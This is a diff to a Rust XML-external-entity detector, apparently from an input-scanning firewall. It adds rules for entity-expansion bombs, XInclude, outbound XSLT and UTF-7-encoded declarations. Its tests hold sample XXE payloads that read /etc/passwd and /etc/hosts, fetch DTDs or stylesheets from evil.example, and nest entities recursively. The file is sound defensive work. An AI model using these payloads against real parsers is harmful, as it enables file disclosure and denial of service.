@@ -1,12 +1,45 @@
 //! XML external entities in XML bodies: external entity and DTD declarations, parameter
-//! entities, entity expansion bombs and XInclude.
+//! entities, entity expansion bombs (many entities, entities built from entities, one entity
+//! referenced over and over), XInclude, and XSLT that reaches outside the document
+//! (`document()`, `system-property()`, extension functions, a remote `xml-stylesheet`).
+//! Declarations spelled in UTF-7 (`+ADw-!DOCTYPE`) are decoded first: a parser told the body is
+//! UTF-7 reads them as `<!DOCTYPE`.
 
 use super::subject::{find, gate, Hit, Needs, Subject, Tables};
 
-/// What `detect` needs to fire (see [`Needs`]): a declaration or an XInclude.
+/// What `detect` needs to fire (see [`Needs`]): a declaration, XInclude, XSLT or UTF-7 markup.
 pub(crate) fn needs() -> Needs {
     Needs::classes(0).or_gates(gate::XML_DECL)
 }
+
+/// DTDs of standards bodies that documents name by their public address (XHTML, SVG, Apple
+/// property lists): a parser that fetches one reaches that publisher and nothing else.
+const STANDARD_DTDS: &[&[u8]] = &[
+    b"http://www.w3.org/",
+    b"https://www.w3.org/",
+    b"http://www.apple.com/dtds/",
+    b"https://www.apple.com/dtds/",
+];
+
+/// XSLT that reads files or URLs, asks about the processor, or calls into the host language.
+const XSLT_REACH: &[&[u8]] = &[
+    b"document(",
+    b"doc(",
+    b"unparsed-text(",
+    b"system-property(",
+    b"php.net/xsl",
+    b"php:function",
+    b"xalan",
+    b"saxon",
+    b"urn:schemas-microsoft-com:xslt",
+    b"exslt.org/common",
+    b"java:",
+    b"clitype:",
+];
+
+/// More general entity references than this in a document with its own entities: the
+/// quadratic blow-up (one large entity referenced over and over).
+const MANY_REFERENCES: usize = 32;
 
 /// Finds XXE in one value.
 pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
@@ -14,14 +47,28 @@ pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
         return None;
     }
     let b = s.bytes();
-    if let Some(p) = find(b, b"<xi:include").or_else(|| find(b, b"xmlns:xi=")) {
-        return Some(Hit::new("xxe.xinclude", p, p + 11));
+    if let Some(h) = declarations(b, s.paranoia)
+        .or_else(|| xinclude(b))
+        .or_else(|| xslt(b))
+    {
+        return Some(h);
     }
+    // `+ADw-` is `<` in UTF-7 (base64 is case-sensitive: decode the original text).
+    let at = find(b, b"+adw")?;
+    let decoded = utf7(s.text.as_bytes());
+    declarations(&decoded, s.paranoia).map(|h| Hit::new(h.rule, at, (at + 12).min(b.len())))
+}
+
+/// DOCTYPE and ENTITY declarations in lower-case `b`.
+fn declarations(b: &[u8], paranoia: u8) -> Option<Hit> {
     let entity = find(b, b"<!entity");
     let doctype = find(b, b"<!doctype");
     let first = entity.or(doctype)?;
     let decl = &b[first..];
+    let mut entities = 0;
+    let mut nested = false;
     for e in memchr::memmem::find_iter(decl, b"<!entity") {
+        entities += 1;
         let rest = &decl[e + 8..decl.len().min(e + 8 + 1024)];
         let k = rest.iter().take_while(|c| c.is_ascii_whitespace()).count();
         if rest.get(k) == Some(&b'%') {
@@ -36,23 +83,155 @@ pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
                 first + e + 8 + end.min(32),
             ));
         }
+        // An entity whose text refers to another entity: each level multiplies the expansion.
+        nested |= references(body) > 0;
     }
-    let entities = memchr::memmem::find_iter(decl, b"<!entity").count();
-    if entities >= 5 || (entities >= 2 && memchr::memmem::find_iter(decl, b"&").count() >= 10) {
+    let amps = memchr::memchr_iter(b'&', decl).count();
+    if entities >= 5
+        || (entities >= 2 && amps >= 10)
+        || nested
+        || (entities >= 1 && amps > MANY_REFERENCES && references(decl) > MANY_REFERENCES)
+    {
         return Some(Hit::new("xxe.entity_expansion", first, first + 9));
     }
     if let Some(d) = doctype {
         let rest = &b[d..b.len().min(d + 1024)];
         let end = memchr::memchr2(b'>', b'[', rest).unwrap_or(rest.len());
         let head = &rest[..end];
-        if find(head, b"system").is_some() || find(head, b"public").is_some() {
+        let external = find(head, b"system").is_some() || find(head, b"public").is_some();
+        if external && !standard_dtd(head) {
             return Some(Hit::new("xxe.external_entity", d, d + end.min(40)));
         }
-        if s.paranoia >= 2 && entity.is_some() {
+        if paranoia >= 2 && entity.is_some() {
             return Some(Hit::new("xxe.entity_expansion", d, d + 9));
         }
     }
     None
+}
+
+/// General entity references (`&name;`) in `b`, character references and the five predefined
+/// entities left out.
+fn references(b: &[u8]) -> usize {
+    memchr::memchr_iter(b'&', b)
+        .filter(|&p| {
+            let name = &b[p + 1..];
+            let len = name
+                .iter()
+                .take(64)
+                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b':'))
+                .count();
+            len > 0
+                && name.get(len) == Some(&b';')
+                && !name[0].is_ascii_digit()
+                && !matches!(&name[..len], b"amp" | b"lt" | b"gt" | b"quot" | b"apos")
+        })
+        .count()
+}
+
+/// Whether a DOCTYPE's external identifier (`head`, up to its `[` or `>`) is a standard DTD at
+/// its publisher's address: its system literal, the last quoted one, starts with [`STANDARD_DTDS`].
+fn standard_dtd(head: &[u8]) -> bool {
+    let Some(close) = head.iter().rposition(|c| matches!(c, b'"' | b'\'')) else {
+        return false;
+    };
+    let quote = head[close];
+    let Some(open) = head[..close].iter().rposition(|c| *c == quote) else {
+        return false;
+    };
+    let literal = &head[open + 1..close];
+    STANDARD_DTDS.iter().any(|d| literal.starts_with(d))
+}
+
+fn xinclude(b: &[u8]) -> Option<Hit> {
+    // The namespace names XInclude whatever the prefix (or none) the document gives it.
+    let p = find(b, b"<xi:include")
+        .or_else(|| find(b, b"xmlns:xi="))
+        .or_else(|| find(b, b"/2001/xinclude"))?;
+    Some(Hit::new("xxe.xinclude", p, (p + 14).min(b.len())))
+}
+
+/// XSLT that reaches outside the document, and `xml-stylesheet` instructions that make a
+/// processor fetch and run a remote XSLT.
+fn xslt(b: &[u8]) -> Option<Hit> {
+    if let Some(pi) = find(b, b"<?xml-stylesheet") {
+        let rest = &b[pi..b.len().min(pi + 512)];
+        let end = find(rest, b"?>").unwrap_or(rest.len());
+        let pi_text = &rest[..end];
+        let remote = find(pi_text, b"://").is_some() || find(pi_text, b"file:").is_some();
+        if remote && find(pi_text, b"xsl").is_some() {
+            return Some(Hit::new("xxe.xslt", pi, pi + end));
+        }
+    }
+    find(b, b"/xsl/transform")?;
+    for reach in XSLT_REACH {
+        if let Some(p) = find(b, reach) {
+            return Some(Hit::new("xxe.xslt", p, p + reach.len()));
+        }
+    }
+    // `<xsl:include href="http://…"/>`, `<xsl:import href="file:…"/>`.
+    for el in [&b":include"[..], b":import"] {
+        for p in memchr::memmem::find_iter(b, el) {
+            let rest = &b[p..b.len().min(p + 256)];
+            let end = memchr::memchr(b'>', rest).unwrap_or(rest.len());
+            if find(&rest[..end], b"://").is_some() || find(&rest[..end], b"file:").is_some() {
+                return Some(Hit::new("xxe.xslt", p, p + end));
+            }
+        }
+    }
+    None
+}
+
+/// `b` (UTF-7) decoded to lower-case ASCII: `+…-` runs of modified base64 hold UTF-16 units;
+/// units past ASCII become `?` (declarations are ASCII). Linear, bounded by `b`.
+fn utf7(b: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while i < b.len() {
+        if b[i] != b'+' {
+            out.push(b[i].to_ascii_lowercase());
+            i += 1;
+            continue;
+        }
+        i += 1;
+        if b.get(i) == Some(&b'-') {
+            out.push(b'+');
+            i += 1;
+            continue;
+        }
+        let (mut bits, mut n) = (0u32, 0u32);
+        while let Some(v) = b.get(i).and_then(|c| base64(*c)) {
+            bits = (bits << 6) | u32::from(v);
+            n += 6;
+            if n >= 16 {
+                n -= 16;
+                let unit = (bits >> n) & 0xffff;
+                out.push(u8::try_from(unit).map_or(b'?', |c| {
+                    if c < 0x80 {
+                        c.to_ascii_lowercase()
+                    } else {
+                        b'?'
+                    }
+                }));
+            }
+            bits &= (1 << n) - 1;
+            i += 1;
+        }
+        if b.get(i) == Some(&b'-') {
+            i += 1;
+        }
+    }
+    out
+}
+
+fn base64(c: u8) -> Option<u8> {
+    match c {
+        b'A'..=b'Z' => Some(c - b'A'),
+        b'a'..=b'z' => Some(c - b'a' + 26),
+        b'0'..=b'9' => Some(c - b'0' + 52),
+        b'+' => Some(62),
+        b'/' => Some(63),
+        _ => None,
+    }
 }
 
 #[cfg(test)]
@@ -84,5 +263,77 @@ mod tests {
             None
         );
         assert_eq!(rule("<!DOCTYPE html><html></html>"), None);
+    }
+
+    #[test]
+    fn expansion_by_nesting_or_repetition() {
+        // Two entities, one built from the other; and recursion.
+        assert_eq!(
+            rule("<!DOCTYPE b [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;\">]><b>&b;</b>"),
+            Some("xxe.entity_expansion")
+        );
+        assert_eq!(
+            rule("<!DOCTYPE r [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]><r>&a;</r>"),
+            Some("xxe.entity_expansion")
+        );
+        let quadratic = format!(
+            "<!DOCTYPE q [<!ENTITY big \"{}\">]><q>{}</q>",
+            "A".repeat(200),
+            "&big;".repeat(40)
+        );
+        assert_eq!(rule(&quadratic), Some("xxe.entity_expansion"));
+        // One named entity, used once; character references are not entities.
+        assert_eq!(
+            rule("<!DOCTYPE r [<!ENTITY co \"Acme &#169; &amp; Co\">]><r>&co;</r>"),
+            None
+        );
+    }
+
+    #[test]
+    fn xinclude_by_namespace_and_xslt_that_reaches_out() {
+        assert_eq!(
+            rule("<d><x:include xmlns:x=\"http://www.w3.org/2001/XInclude\" href=\"/etc/hosts\"/></d>"),
+            Some("xxe.xinclude")
+        );
+        let ns = "xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"";
+        for reach in [
+            "<xsl:value-of select=\"document('/etc/passwd')\"/>",
+            "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
+            "<xsl:include href=\"http://evil.example/x.xsl\"/>",
+        ] {
+            let doc = format!("<xsl:stylesheet version=\"1.0\" {ns}><xsl:template match=\"/\">{reach}</xsl:template></xsl:stylesheet>");
+            assert_eq!(rule(&doc), Some("xxe.xslt"), "{reach}");
+        }
+        assert_eq!(
+            rule("<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/s.xsl\"?><d/>"),
+            Some("xxe.xslt")
+        );
+        // A plain stylesheet, and a CSS stylesheet instruction.
+        let plain = format!("<xsl:stylesheet {ns}><xsl:template match=\"/\"><xsl:value-of select=\"title\"/></xsl:template></xsl:stylesheet>");
+        assert_eq!(rule(&plain), None);
+        assert_eq!(
+            rule("<?xml-stylesheet type=\"text/css\" href=\"style.css\"?><c/>"),
+            None
+        );
+    }
+
+    #[test]
+    fn utf7_declarations_are_decoded() {
+        assert_eq!(
+            rule("+ADw-!DOCTYPE r +AFs-+ADw-!ENTITY x SYSTEM +ACI-http://evil.example/+ACI-+AD4-+AF0-+AD4-"),
+            Some("xxe.external_entity")
+        );
+        assert_eq!(utf7(b"+ADwAIQ-doctype a+-b"), b"<!doctype a+b");
+    }
+
+    #[test]
+    fn standard_dtds_at_their_publisher_pass() {
+        assert_eq!(rule("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>"), None);
+        assert_eq!(rule("<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist/>"), None);
+        // The same public identifier with another system literal is fetched from there.
+        assert_eq!(
+            rule("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://evil.example/x.dtd\"><html/>"),
+            Some("xxe.external_entity")
+        );
     }
 }
